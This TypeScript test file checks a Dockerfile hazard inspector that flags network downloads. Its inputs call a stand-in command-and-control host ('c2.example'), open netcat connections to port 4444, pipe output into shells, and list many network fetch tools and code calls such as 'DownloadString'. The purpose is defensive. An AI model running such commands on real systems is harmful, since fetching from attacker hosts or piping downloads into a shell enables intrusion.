import t from 'tap';
import { inspect } from '../../src/hazards/inspect.js';
import { formatHazard } from '../../src/hazards/inspection.js';
import { makeCall } from './make-call.js';

// Every word that the reader of commands knows, one by one: the lists here are written anew, so that a word that is lost
// or misspelt there is missed here. Whole commands are in dockerfile.test.ts.

const raised = (command: string): string[] =>
  inspect(makeCall('ImageBuild', { dockerfile: `FROM alpine\nRUN ${command}` })).hazards.map(formatHazard);
const words = (text: string): string[] => text.trim().split(/\s+/);

/** Programs that take a URL, or a host and a path, as an argument. */
const FETCHERS =
  words(`curl wget wget2 aria2c axel fetch lynx w3m links elinks xh httpie http https lwp-request
  lwp-download ftp lftp tftp ncftpget ftpget ftpput sftp ssh socat`);
const COPIERS = ['rsync', 'scp'];
const CONNECTORS = words('nc ncat netcat nc.openbsd nc.traditional telnet');

void t.test('each program that fetches', (t) => {
  for (const tool of FETCHERS) {
    t.same(raised(`${tool} c2.example/x`), ['download:c2.example/x'], tool);
    t.same(raised(`/usr/bin/${tool} c2.example/x`), ['download:c2.example/x'], `/usr/bin/${tool}`);
    t.same(raised(`my-${tool} c2.example/x`), [], `my-${tool}: another program`);
    t.same(raised(`${tool}-ng c2.example/x`), [], `${tool}-ng: another program`);
  }
  for (const tool of COPIERS) {
    t.same(raised(`${tool} c2.example:/x /y`), ['download:c2.example:/x'], tool);
    t.same(raised(`${tool} /x /y`), [], `${tool}: from one directory to another`);
    t.same(raised(`my-${tool} c2.example:/x /y`), [], `my-${tool}: another program`);
  }
  for (const tool of CONNECTORS) {
    t.same(raised(`${tool} c2.example 4444`), ['download:tcp://c2.example:4444'], tool);
    t.same(raised(`my-${tool} c2.example 4444`), [], `my-${tool}: another program`);
  }
  t.end();
});

void t.test('each program of another language, and each way it has to the network', (t) => {
  for (const program of words(`python python3 python3.12 pypy pypy3 perl perl5.36 ruby ruby3.1 php php8.2 node nodejs lua
      lua5.4 deno bun pwsh powershell gawk mawk awk tclsh expect`)) {
    t.same(raised(`${program} -e 'socket()'`), ['download:?'], program);
    t.same(raised(`my-${program} -e 'socket()'`), [], `my-${program}: another program`);
  }
  for (const code of [
    ...[
      'import urllib',
      'urlopen(u)',
      'urlretrieve(u)',
      'http.client',
      'httplib',
      'requests.get(u)',
      'httpx',
    ],
    ...[
      'aiohttp',
      'socket.socket()',
      'use LWP',
      'Net::HTTP',
      'require open-uri',
      'HTTP::Tiny',
      'fsockopen(h)',
    ],
    ...[
      'curl_init()',
      'file_get_contents($u)',
      'fetch(u)',
      'http.get(u)',
      'https.get(u)',
      '/inet/tcp/0/h/80',
    ],
    ...['Net.WebClient', 'Invoke-WebRequest', 'Invoke-RestMethod', 'iwr $u', 'DownloadString($u)'],
  ]) {
    t.same(raised(`python3 -c '${code}'`), ['download:?'], code);
  }
  for (const code of [
    'print(1)',
    'import os',
    'request = 1',
    'prefetch',
    'file_get_contents("x")',
    'kiwr 1',
  ]) {
    t.same(raised(`python3 -c '${code}'`), [], `${code}: no way to the network`);
  }
  t.end();
});

void t.test('each command that only reads, prints or moves what it names', (t) => {
  for (const tool of words(`echo printf which whereis type hash rm ln cp mv mkdir rmdir touch chmod chown chgrp test [ ls
      cat grep egrep fgrep sed head tail sort uniq wc cut tr tee true false : basename dirname readlink realpath stat
      file dpkg-query dpkg-divert update-alternatives setcap getcap export local readonly declare typeset unset alias
      complete useradd adduser groupadd addgroup usermod userdel deluser install strip ldd`)) {
    t.same(raised(`${tool} curl c2.example/x`), [], tool);
    t.same(raised(`my-${tool} curl c2.example/x`), ['download:c2.example/x'], `my-${tool}: any program`);
  }
  t.end();
});

void t.test('each package manager: packages are no download, URLs are', (t) => {
  for (const tool of words(`apk apt apt-get aptitude dpkg yum dnf microdnf tdnf rpm zypper pacman opkg brew conda mamba
      micromamba pip pip3 pipx uv poetry npm npx yarn pnpm gem bundle cargo composer go mvn gradle make cmake`)) {
    t.same(raised(`${tool} install curl c2.example/x`), [], tool);
    t.same(
      raised(`${tool} install https://c2.example/x`),
      ['download:https://c2.example/x'],
      `${tool}: a URL`,
    );
    t.same(
      raised(`my-${tool} install curl c2.example/x`),
      ['download:c2.example/x'],
      `my-${tool}: any program`,
    );
  }
  t.end();
});

void t.test('each word that stands before the command that runs, and each command that runs another', (t) => {
  for (const keyword of words('time exec eval sudo doas nohup command builtin busybox')) {
    t.same(raised(`${keyword} wget`), ['download:?'], keyword);
    t.same(raised(`my-${keyword} wget`), [], `my-${keyword}: any program`);
  }
  for (const script of [
    ...['if wget; then :; fi', 'if :; then wget; fi', 'if :; then :; elif wget; then :; fi'],
    ...['if :; then :; else wget; fi', 'while wget; do :; done', 'until wget; do :; done'],
    ...['while :; do wget; done', '! wget', '{ wget; }'],
  ]) {
    t.same(raised(script), ['download:?'], script);
  }
  for (const wrapper of words(`xargs env timeout nice ionice stdbuf gosu su-exec setpriv chroot find parallel watch tini
      dumb-init flock unshare nsenter strace setsid start-stop-daemon runuser su toybox retry catchsegv`)) {
    t.same(raised(`${wrapper} wget`), ['download:?'], wrapper);
    t.same(raised(`my-${wrapper} wget`), [], `my-${wrapper}: any program`);
  }
  t.end();
});

void t.test('each shell that runs what another command prints', (t) => {
  for (const shell of words('sh bash ash dash zsh ksh mksh fish source . eval su')) {
    t.same(raised(`printf wget | ${shell}`), ['download:?'], shell);
    t.same(raised(`printf wget | my-${shell}`), [], `my-${shell}: any program`);
  }
  t.end();
});

void t.test('each option that only informs, and each that takes a value', (t) => {
  for (const option of ['--version', '--help', '-V', '-h', '-help', '-version']) {
    t.same(raised(`curl ${option}`), [], option);
  }
  for (const option of ['-s', '-v', '-help-me']) t.same(raised(`curl ${option}`), ['download:?'], option);
  for (const option of [
    ...[
      '-o',
      '-O',
      '-P',
      '-H',
      '-A',
      '-e',
      '-u',
      '-c',
      '-m',
      '-d',
      '-T',
      '-fsSLo',
      '--output',
      '--output-document',
    ],
    ...['--header', '--user-agent', '--referer', '--retry', '--max-time', '--connect-timeout', '--data'],
    ...['--directory-prefix', '--cacert'],
  ]) {
    t.same(raised(`curl ${option} a.out c2.example/x`), ['download:c2.example/x'], option);
  }
  t.same(raised('curl --next a.out'), ['download:a.out'], 'an option that takes none');
  t.end();
});

void t.test('each command of git that fetches', (t) => {
  for (const verb of ['clone', 'fetch', 'pull', 'submodule', 'ls-remote', 'archive', 'remote']) {
    t.same(raised(`git ${verb} git@c2.example:a`), ['download:git@c2.example:a'], verb);
  }
  for (const verb of ['clone', 'fetch', 'pull', 'submodule', 'ls-remote']) {
    t.same(raised(`git ${verb}`), ['download:?'], `${verb}: from what is configured`);
  }
  for (const verb of ['add', 'commit', 'log', 'init', 'config']) {
    t.same(raised(`git ${verb} git@c2.example:a`), [], `${verb}: stays here`);
  }
  t.end();
});

void t.test('each scheme, in the words of any program', (t) => {
  for (const scheme of words(`http https ftp ftps sftp scp ssh git svn hg rsync tftp gopher dict ws wss s3 gs git+https
      git+ssh svn+ssh hg+http bzr+http HTTPS`)) {
    const url = `${scheme}://c2.example/x`;
    t.same(raised(`anything ${url}`), [`download:${url}`], scheme);
  }
  for (const scheme of ['file', 'unix', 'tcp', 'mailto', 'urn', 'xhttp', 'https2']) {
    t.same(raised(`anything ${scheme}://c2.example/x`), [], `${scheme}: nothing is fetched`);
  }
  t.end();
});

void t.test('each name of the container itself', (t) => {
  for (const host of ['localhost', '127.0.0.1', '[::1]']) {
    t.same(raised(`curl http://${host}:8080/health`), [], host);
    t.same(raised(`curl https://${host}/`), [], host);
  }
  for (const host of [
    'localhost.c2.example',
    '127.0.0.1.c2.example',
    '127.0.0.2',
    'localhost@c2.example',
    '[::2]',
  ]) {
    t.same(raised(`curl http://${host}/x`), [`download:http://${host}/x`], host);
  }
  t.end();
});
